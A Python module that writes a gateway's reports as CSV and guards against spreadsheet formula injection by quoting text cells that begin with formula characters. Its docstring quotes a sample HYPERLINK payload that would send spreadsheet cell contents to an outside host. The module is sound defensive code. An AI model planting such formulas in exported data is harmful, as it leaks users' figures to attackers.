"""The gateway's one CSV writer: reports and usage as a spreadsheet opens them safely.

A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` as a formula (and, after
a tab or carriage return, still does), so a job named `=HYPERLINK("http://x/?"&A1,"x")`
would become a live link carrying the committee's figures. OWASP's rule ("CSV
Injection"): such a cell starts with a single quote, which the spreadsheet shows as text
and does not run. Every text cell gets it, whoever wrote the text, so a user's "-5" shows
as text too. A number the gateway itself writes as a number (an int, a float, a Decimal:
-5, -1.5, 1e-05) stays as it is: its text is a number, never a formula, and quoting it
would turn a committee's negative adjustment into text no column sum adds up ("-inf" and
"nan" are not numbers to a spreadsheet: they are text like any other).
"""

from __future__ import annotations

import csv
import io
import math
from collections.abc import Mapping, Sequence
from datetime import datetime
from decimal import Decimal
from typing import Any

from fastapi import Response

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: Any) -> Any:
    """One cell: a number as it is, any other value as text that cannot start a formula."""
    if isinstance(value, int | float | Decimal) and math.isfinite(value):
        return value
    if value is None:
        return ""
    text = value.isoformat() if isinstance(value, datetime) else str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def csv_response(rows: Sequence[Mapping[str, Any]], filename: str) -> Response:
    """The rows as CSV, one column per key of the first row (RFC 4180 line ends)."""
    out = io.StringIO()
    if rows:
        writer = csv.DictWriter(out, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows({k: csv_cell(v) for k, v in row.items()} for row in rows)
    return Response(out.getvalue(), media_type="text/csv; charset=utf-8", headers={
        "Content-Disposition": f'attachment; filename="{filename}.csv"'})
